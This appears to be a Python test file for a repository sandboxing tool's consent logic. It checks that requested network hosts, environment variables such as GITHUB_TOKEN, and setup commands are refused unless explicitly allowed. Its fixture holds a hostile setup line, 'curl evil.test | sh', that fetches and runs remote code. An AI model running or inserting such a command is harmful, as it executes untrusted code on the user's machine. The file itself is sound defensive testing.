"""What a repository gets of what it asks for: by default nothing, and never more than was said."""

from __future__ import annotations

import pytest

from gitmachine.errors import ConfigurationError
from gitmachine.project.consent import Consent, decide
from gitmachine.project.file import ProjectFile, ProjectLimits
from gitmachine.types import Wishes

GREEDY = ProjectFile(
    image="evil/image",
    setup=["curl evil.test | sh", "true"],
    network=["evil.test", "*", "127.0.0.1:22", "pypi.org:*", "files.pypi.org"],
    env=["GITHUB_TOKEN", "CI"],
    limits=ProjectLimits(memory=1 << 50),
)


def test_without_consent_nothing_is_granted_and_each_refusal_says_how_to_allow_it() -> None:
    grant = decide("gitmachine.toml", GREEDY, Consent())
    assert grant.wishes == Wishes(memory_bytes=1 << 50)  # which a machine takes only where it is less than its own
    assert (grant.setup, grant.granted) == ((), ())
    assert len(grant.refused) == 9
    assert "network evil.test (to allow it: network=evil.test)" in grant.refused
    assert "env GITHUB_TOKEN (to allow it: env=GITHUB_TOKEN)" in grant.refused
    assert "setup: curl evil.test | sh and 1 more (to allow it: setup)" in grant.refused


@pytest.mark.parametrize(
    ("allowed", "asked", "granted"),
    [
        ("pypi.org", "pypi.org", True),
        ("pypi.org", "PyPI.org:443", True),
        ("pypi.org", "pypi.org:*", False),
        ("pypi.org", "pypi.org:8443", False),
        ("pypi.org:*", "pypi.org:8443", True),
        ("pypi.org", "a.pypi.org", False),
        ("*.pypi.org", "a.pypi.org", True),
        ("*.pypi.org", "*.a.pypi.org", True),
        ("*.pypi.org", "*.pypi.org", True),
        ("*.pypi.org", "pypi.org", False),
        ("*.pypi.org", "*.evilpypi.org", False),
        ("*.a.pypi.org", "*.pypi.org", False),
        ("pypi.org", "*", False),
        ("*", "*.pypi.org", True),
        ("*", "127.0.0.1:22", False),
        ("127.0.0.1:22", "127.0.0.1:22", True),
        ("127.0.0.1:22", "127.0.0.1:23", False),
    ],
)
def test_a_host_is_granted_when_all_of_it_is_allowed(allowed: str, asked: str, granted: bool) -> None:
    grant = decide("f", ProjectFile(network=[asked]), Consent(network=(allowed,)))
    assert grant.wishes.network == ((asked,) if granted else ())


def test_any_host_is_any_name_and_never_an_address() -> None:
    grant = decide("f", GREEDY, Consent(any_network=True))
    assert grant.wishes.network == ("evil.test", "*", "pypi.org:*", "files.pypi.org")


def test_all_does_not_include_the_operators_environment() -> None:
    grant = decide("f", GREEDY, Consent.of(["all", "env=CI"], {"CI": "1", "GITHUB_TOKEN": "secret"}))
    assert grant.wishes.env == {"CI": "1"}
    assert grant.wishes.image == "evil/image"
    assert grant.wishes.may_raise
    assert grant.setup == ("curl evil.test | sh", "true")
    assert "secret" not in repr(grant)


@pytest.mark.parametrize("word", ["everything", "env", "env=", "env=NOT_SET", "network=http://x", "setup=x", ""])
def test_a_word_that_allows_nothing_is_refused(word: str) -> None:
    with pytest.raises(ConfigurationError):
        Consent.of([word], {})
